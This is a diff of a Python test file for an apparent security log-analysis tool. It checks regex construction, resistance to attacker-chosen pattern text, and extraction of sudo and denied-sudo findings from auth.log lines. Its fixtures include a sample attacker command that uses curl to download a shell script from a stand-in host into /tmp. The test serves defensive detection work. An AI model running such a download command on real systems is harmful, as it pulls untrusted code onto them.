@@ -82,7 +82,8 @@ def test_resolve_args_encodes_evidence(brute):
     args = resolve_args(attacker, inputs, {"sources": ["203.0.113.45", "198.51.100.23"]})
     assert args == {
         "log": "auth",
-        "pattern": r"Accepted \S+ for (?P<user>\S+) from (?:203\.0\.113\.45|198\.51\.100\.23) port",
+        "format": "auth",
+        "pattern": r"Accepted \S+ for .* from (?:203\.0\.113\.45|198\.51\.100\.23) port",
     }
     after = brute.step("after_login")
     evil = "x|.*"  # attacker-chosen text must only ever match itself
@@ -190,9 +191,25 @@ def test_extract_from_debian_auth_lines(brute):
     )
     assert found["pid"][:2] == ["2101", "2110"]
     assert "auth.log" not in " ".join(found.get("domain", []))
-    values = extract_findings(brute.step("after_login"), rows)
-    assert [(v.finding, v.value, v.row) for v in values if v.finding == "sudo_commands"] == [
-        ("sudo_commands", "/usr/bin/curl -fsSL http://203.0.113.77/k.sh -o /tmp/k.sh", 2)
+    # The playbook reads the auth format's fields, as search_logs gives them: only an allowed sudo runs.
+    from datetime import UTC, datetime
+
+    from tools.logformats import parse_line
+    from tools.logsearch.fields import parsed_columns
+
+    denied = (
+        "Nov 26 10:00:09 web01 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; "
+        "USER=root ; COMMAND=/bin/sh"
+    )
+    parsed_rows = []
+    for n, line in enumerate([*lines, denied], 1):
+        parsed = parse_line("auth", line.encode(), reference=datetime(2026, 11, 27, tzinfo=UTC))
+        row = {"path": "/var/log/auth.log", "line_no": n, "line": line}
+        parsed_rows.append({**row, **(parsed_columns(parsed) if parsed else {})})
+    values = extract_findings(brute.step("after_login"), parsed_rows)
+    assert [(v.finding, v.value, v.row) for v in values if v.finding in ("sudo_commands", "denied_sudo")] == [
+        ("sudo_commands", "/usr/bin/curl -fsSL http://203.0.113.77/k.sh -o /tmp/k.sh", 2),
+        ("denied_sudo", "/bin/sh", 5),
     ]
 
 
